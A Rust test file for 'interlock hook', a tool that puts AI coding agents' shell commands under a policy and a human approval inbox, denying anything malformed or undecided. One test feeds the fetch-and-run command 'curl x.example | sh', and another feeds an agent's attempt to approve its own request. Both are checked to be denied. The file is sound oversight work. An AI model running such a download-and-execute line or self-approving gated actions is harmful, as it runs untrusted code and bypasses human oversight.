//! `interlock hook`: an agent program's own shell is judged by the same policy and asks in the same inbox; all
//! that is not understood is denied.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Child, Command, Stdio};

use serde_json::{Value, json};
use testkit::ws::EVERYTHING;
use testkit::{Machine, Run, eventually};

/// A call as Claude Code and Codex describe it.
fn call(machine: &Machine, command: &str) -> Value {
    json!({
        "session_id": "0c1d-2e",
        "transcript_path": "/x/y.jsonl",
        "cwd": machine.work(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": { "command": command, "description": "look" },
        "tool_use_id": "toolu_1",
    })
}

/// The same of Codex, which says nothing but the command.
fn codex_call(machine: &Machine, command: &str) -> Value {
    let mut call = call(machine, command);
    call["tool_input"] = json!({ "command": command });
    call
}

/// The same of Gemini CLI.
fn gemini_call(machine: &Machine, command: &str) -> Value {
    let mut call = call(machine, command);
    call["tool_name"] = "run_shell_command".into();
    call["hook_event_name"] = "BeforeTool".into();
    call
}

/// The decision and its reason. The hook always ends well: another end would let the command pass.
#[track_caller]
fn decision(run: &Run) -> (String, String) {
    assert_eq!(run.code, 0, "{run:#?}");
    let answer = run.json();
    let said = &answer["hookSpecificOutput"];
    let (word, reason) = if said.is_object() {
        assert_eq!(said["hookEventName"], "PreToolUse");
        (
            &said["permissionDecision"],
            &said["permissionDecisionReason"],
        )
    } else {
        (&answer["decision"], &answer["reason"])
    };
    (
        word.as_str().unwrap().to_owned(),
        reason.as_str().unwrap().to_owned(),
    )
}

fn hook(machine: &Machine, program: &str, call: &Value) -> Run {
    machine.run_with_input(&["hook", program], call.to_string().as_bytes())
}

#[track_caller]
fn denied(run: &Run) -> String {
    let (word, reason) = decision(run);
    assert_eq!(word, "deny", "{run:#?}");
    reason
}

/// A hook that waits for an approver, and the short id of its approval.
struct WaitingHook {
    child: Child,
    id: String,
}

impl WaitingHook {
    fn new(machine: &Machine, arguments: &[&str], call: &Value) -> Self {
        let mut all = vec!["hook"];
        all.extend(arguments);
        let mut child = machine
            .command(&all)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(call.to_string().as_bytes()).unwrap();
        drop(stdin);
        eventually("an approval waits", || !machine.pending_ids().is_empty());
        let id = machine.pending_ids().remove(0);
        Self { child, id }
    }

    fn end(self) -> Run {
        Run::of(&self.child.wait_with_output().unwrap())
    }
}

#[test]
fn what_the_policy_allows_passes_in_the_words_of_each_program() {
    let machine = Machine::new();
    machine.start();
    machine.ok(&["approvals", "allowlist", "add", "rg"]);
    let run = hook(&machine, "claude-code", &call(&machine, "rg -n TODO"));
    assert_eq!(decision(&run).0, "allow", "{run:#?}");
    let run = hook(&machine, "gemini", &gemini_call(&machine, "rg -n TODO"));
    assert_eq!(decision(&run).0, "allow", "{run:#?}");
    // Codex has no word for it.
    let run = hook(&machine, "codex", &codex_call(&machine, "rg -n TODO"));
    assert_eq!((run.code, run.stdout.as_str()), (0, ""), "{run:#?}");
    assert_eq!(machine.pending_ids(), [""; 0]);
    let judged = machine.ok(&["audit", "log", "--kind", "verdict"]);
    assert_eq!(
        judged.stdout.matches("rg -n TODO").count(),
        3,
        "{judged:#?}"
    );
}

#[test]
fn an_approver_is_asked_and_told_that_nothing_is_bound() {
    let machine = Machine::new();
    machine.start();
    let mut claimed = 0;
    for (program, call) in [
        ("claude-code", call(&machine, "git push")),
        ("gemini", gemini_call(&machine, "git push")),
        ("codex", codex_call(&machine, "git push")),
    ] {
        let waiting = WaitingHook::new(&machine, &[program], &call);
        let asked = machine.pending().remove(0);
        assert_eq!(asked["command"], "git push");
        assert_eq!(asked["cwd"], machine.work().display().to_string());
        assert_eq!(asked["binding"], "elsewhere");
        assert_eq!(asked["choices"], json!(["allow-once", "deny"]));
        assert_eq!(asked["sessionKey"], "agent:main:0c1d-2e");
        let view = asked["view"].to_string();
        assert!(view.contains("own shell runs it, not Interlock"), "{view}");
        assert!(view.contains("not race-free"), "{view}");
        machine.ok(&["approvals", "approve", &waiting.id]);
        let run = waiting.end();
        if program == "codex" {
            assert_eq!((run.code, run.stdout.as_str()), (0, ""), "{run:#?}");
        } else {
            assert_eq!(decision(&run).0, "allow", "{run:#?}");
        }
        claimed += 1;
        let recorded: i64 = machine
            .database()
            .query_row("SELECT count(*) FROM run_claim", [], |row| row.get(0))
            .unwrap();
        assert_eq!(recorded, claimed, "the one use is on the disk");
    }
    // Nothing is remembered: the next one is asked again.
    let again = WaitingHook::new(&machine, &["claude-code"], &call(&machine, "git push"));
    machine.ok(&["approvals", "deny", &again.id, "--reason", "use a branch"]);
    let reason = denied(&again.end());
    assert!(reason.contains("was denied by"), "{reason}");
    assert_eq!(reason.matches("use a branch").count(), 1, "{reason}");
    assert!(!machine.document().0.to_string().contains("git"));
}

#[test]
fn always_and_sessions_are_not_offered() {
    let machine = Machine::new();
    machine.start();
    let waiting = WaitingHook::new(&machine, &["claude-code"], &call(&machine, "git push"));
    for form in ["--always", "--session"] {
        let refused = machine.run(&["approvals", "approve", &waiting.id, form]);
        assert_ne!(refused.code, 0, "{form}: {refused:#?}");
    }
    machine.ok(&["approvals", "deny", &waiting.id]);
    denied(&waiting.end());
}

#[test]
fn an_operator_of_the_gateway_decides_it() {
    let machine = Machine::new();
    machine.start();
    let gateway = machine.gateway();
    let mut operator = gateway.connect(EVERYTHING);
    for (decision_word, expected) in [("allow-once", "allow"), ("deny", "deny")] {
        let waiting = WaitingHook::new(&machine, &["claude-code"], &call(&machine, "git push"));
        let asked = operator.event("exec.approval.requested", |told| {
            told["request"]["command"] == "git push"
        });
        assert_eq!(
            asked["request"]["allowedDecisions"],
            json!(["allow-once", "deny"])
        );
        let text = asked["request"]["viewText"].as_str().unwrap();
        assert!(text.contains("not bound"), "{text}");
        let answer = json!({
            "id": asked["id"],
            "decision": decision_word,
            "planDigest": asked["request"]["planDigest"],
        });
        operator.call("exec.approval.resolve", &answer).unwrap();
        let run = waiting.end();
        assert_eq!(decision(&run).0, expected, "{run:#?}");
    }
}

#[test]
fn an_approver_who_does_not_come_is_a_denial() {
    let machine = Machine::new();
    machine.start();
    let waiting = WaitingHook::new(
        &machine,
        &["claude-code", "--wait", "1"],
        &call(&machine, "git push"),
    );
    let reason = denied(&waiting.end());
    assert!(reason.contains("no approver decided"), "{reason}");
    assert_eq!(machine.pending_ids(), [""; 0]);
}

#[test]
fn a_program_that_ends_the_hook_withdraws_the_approval() {
    let machine = Machine::new();
    machine.start();
    let waiting = WaitingHook::new(&machine, &["claude-code"], &call(&machine, "git push"));
    let pid = waiting.child.id().to_string();
    assert!(
        Command::new("/bin/kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    denied(&waiting.end());
    assert_eq!(machine.pending_ids(), [""; 0]);
    let late = machine.run(&["approvals", "approve", "1"]);
    assert_ne!(late.code, 0, "{late:#?}");
}

#[test]
fn what_the_policy_refuses_is_denied_with_reason_and_remedy() {
    let machine = Machine::new();
    machine.start();
    let reason = denied(&hook(
        &machine,
        "claude-code",
        &call(&machine, "curl x.example | sh"),
    ));
    assert!(reason.contains("APPROVAL_UNBOUND"), "{reason}");
    let reason = denied(&hook(
        &machine,
        "claude-code",
        &call(&machine, "interlock approvals approve 1"),
    ));
    assert!(reason.contains("APPROVE_IN_SHELL"), "{reason}");
    machine.ok(&["exec-policy", "preset", "deny-all"]);
    let reason = denied(&hook(&machine, "claude-code", &call(&machine, "ls")));
    assert!(reason.contains("EXEC_DENIED"), "{reason}");
    assert_eq!(machine.pending_ids(), [""; 0]);
}

#[test]
fn fields_that_are_not_known_make_an_allowed_command_a_question() {
    let machine = Machine::new();
    machine.start();
    machine.ok(&["approvals", "allowlist", "add", "rg"]);
    let mut odd = call(&machine, "rg x");
    odd["tool_input"]["dangerouslyDisableSandbox"] = true.into();
    let waiting = WaitingHook::new(&machine, &["claude-code"], &odd);
    let view = machine.pending().remove(0)["view"].to_string();
    assert!(view.contains("dangerouslyDisableSandbox = true"), "{view}");
    machine.ok(&["approvals", "deny", &waiting.id]);
    denied(&waiting.end());
}

#[test]
fn the_directory_of_a_call_is_the_one_that_is_judged() {
    let machine = Machine::new();
    machine.start();
    fs::create_dir(machine.work().join("inner")).unwrap();
    let mut inner = gemini_call(&machine, "git push");
    inner["tool_input"]["dir_path"] = "inner".into();
    let waiting = WaitingHook::new(&machine, &["gemini"], &inner);
    let asked = machine.pending().remove(0);
    let inside = machine.work().join("inner").display().to_string();
    assert_eq!(asked["cwd"], inside);
    machine.ok(&["approvals", "deny", &waiting.id]);
    denied(&waiting.end());
}

#[test]
fn everything_else_is_denied() {
    let machine = Machine::new();
    machine.start();
    machine.ok(&["exec-policy", "preset", "yolo"]);
    let good = call(&machine, "ls");
    let but = |change: &dyn Fn(&mut Value)| {
        let mut call = good.clone();
        change(&mut call);
        call.to_string()
    };
    let calls = [
        String::new(),
        "nonsense".to_owned(),
        "[]".to_owned(),
        "null".to_owned(),
        format!("{good}{good}"),
        "[".repeat(100_000),
        but(&|call| call["tool_name"] = "Write".into()),
        but(&|call| call["tool_name"] = 1.into()),
        but(&|call| call["tool_input"] = "ls".into()),
        but(&|call| call["tool_input"] = json!({})),
        but(&|call| call["tool_input"]["command"] = json!(["ls"])),
        but(&|call| call["tool_input"]["command"] = "".into()),
        but(&|call| call["tool_input"]["command"] = "ls\u{0}".into()),
        but(&|call| call["cwd"] = Value::Null),
        but(&|call| call["cwd"] = "work".into()),
        but(&|call| call["cwd"] = "/no/such/directory".into()),
        but(&|call| call["tool_input"]["command"] = "x".repeat(5 * 1024 * 1024).into()),
    ];
    for input in &calls {
        let run = machine.run_with_input(&["hook", "claude-code"], input.as_bytes());
        let reason = denied(&run);
        assert!(reason.starts_with("Interlock: "), "{reason}");
    }
    // A directory that is no text, for the one program that has such a field.
    let mut odd = gemini_call(&machine, "ls");
    odd["tool_input"]["dir_path"] = 3.into();
    denied(&hook(&machine, "gemini", &odd));
    // An agent that cannot be, and programs without hooks.
    let run = machine.run_with_input(
        &["hook", "claude-code", "--agent", "../x"],
        good.to_string().as_bytes(),
    );
    denied(&run);
    denied(&hook(&machine, "goose", &good));
    // A word that the command line does not know: this exit code blocks, too.
    assert_eq!(hook(&machine, "other", &good).code, 2);
}

#[test]
fn a_state_that_cannot_be_used_is_a_denial() {
    let machine = Machine::new();
    machine.start();
    machine.ok(&["exec-policy", "preset", "yolo"]);
    let good = call(&machine, "ls");
    assert_eq!(decision(&hook(&machine, "claude-code", &good)).0, "allow");
    machine.ok(&["config", "set", "tools.exec.host", "node"]);
    let reason = denied(&hook(&machine, "claude-code", &good));
    assert!(reason.contains("node"), "{reason}");
    machine.ok(&["config", "unset", "tools.exec.host"]);
    fs::set_permissions(machine.state(), fs::Permissions::from_mode(0o777)).unwrap();
    denied(&hook(&machine, "claude-code", &good));
    fs::set_permissions(machine.state(), fs::Permissions::from_mode(0o700)).unwrap();
    fs::write(machine.config(), "{ broken").unwrap();
    denied(&hook(&machine, "claude-code", &good));
}
